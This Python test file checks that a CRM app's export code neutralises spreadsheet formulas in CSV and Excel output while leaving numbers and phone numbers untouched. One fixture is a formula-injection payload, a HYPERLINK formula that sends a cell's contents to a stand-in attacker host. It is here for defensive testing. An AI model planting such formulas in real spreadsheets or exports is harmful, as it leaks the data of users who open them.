"""What is exported holds no formulas, and all else as it was."""

import csv
import io

import openpyxl
from hypothesis import given
from hypothesis import strategies as st

from frappe_crm_app.kit.spreadsheet_formulas import (
	FORMULA_MARKS,
	PHONE,
	neutralise_cell,
	neutralise_csv,
	neutralise_workbook,
)

HOSTILE = '=HYPERLINK("http://evil.example?"&A1,"x")'
TEXT = st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\0"), max_size=30)


def as_csv(rows: list, delimiter: str = ",") -> bytes:
	stream = io.StringIO()
	csv.writer(stream, delimiter=delimiter, quoting=csv.QUOTE_NONNUMERIC).writerows(rows)
	return stream.getvalue().encode()


@given(st.lists(st.lists(TEXT, min_size=1, max_size=3), max_size=5), st.sampled_from(",;\t|"))
def test_each_text_of_a_csv_file_is_neutralised_and_nothing_else(rows, delimiter):
	content = neutralise_csv(as_csv(rows, delimiter)).decode()
	read = list(csv.reader(io.StringIO(content, newline=""), delimiter=delimiter))
	expected = [[cell if PHONE.fullmatch(cell) else neutralise_cell(cell) for cell in row] for row in rows]
	assert read == expected


def test_numbers_and_phones_stay():
	row = [1, -2.5, "+14155550100", None, "2026-01-31", HOSTILE, 'say "=1"', 'x\n"=1"', 'a,"=2"']
	content = neutralise_csv(as_csv([row])).decode()
	assert content.startswith('1,-2.5,"+14155550100","","2026-01-31","\'=HYPERLINK(""http')
	read = next(csv.reader(io.StringIO(content, newline="")))
	assert read[6:] == ['say "=1"', 'x\n"=1"', 'a,"=2"']


def test_a_workbook_holds_texts_instead_of_formulas():
	book = openpyxl.Workbook(write_only=True)
	sheet = book.create_sheet("CRM Contact")
	rows = [["Name", "Value"], [HOSTILE, 5], ["=1+1 & <b>", -2.5], ["+1 or -1", None], ["plain", "=A1"]]
	for row in rows:
		sheet.append(row)
	stream = io.BytesIO()
	book.save(stream)
	read = openpyxl.load_workbook(io.BytesIO(neutralise_workbook(stream.getvalue())))
	cells = list(read.active.iter_rows())
	assert [[cell.value for cell in row] for row in cells] == [
		["Name", "Value"],
		[f"'{HOSTILE}", 5],
		["'=1+1 & <b>", -2.5],
		["+1 or -1", None],
		["plain", "'=A1"],
	]
	assert not [cell for row in cells for cell in row if cell.data_type == "f"]
	assert all(mark in FORMULA_MARKS for mark in "=+-@")
